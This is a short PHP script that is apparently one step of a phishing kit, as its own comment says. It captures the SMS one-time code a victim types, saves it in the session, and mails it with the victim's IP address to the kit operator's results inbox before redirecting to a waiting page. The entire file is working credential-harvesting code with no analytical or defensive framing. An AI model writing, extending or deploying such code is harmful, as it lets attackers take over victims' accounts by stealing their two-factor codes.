<?php
// a kit's code step: the code the victim typed, kept in the session, mailed to the kit's inbox
session_start();
require __DIR__ . '/settings.php';

$typed = $_POST['sms'];
$_SESSION['sms'] = $typed;

$report = "== step 3 ==\nSMS CODE : " . $_SESSION['sms'] . "\nFrom : " . $_SERVER['REMOTE_ADDR'] . "\n";
mail($resultsTo, 'Step 3 | ' . $_SERVER['REMOTE_ADDR'], $report);
header('Location: wait.php');
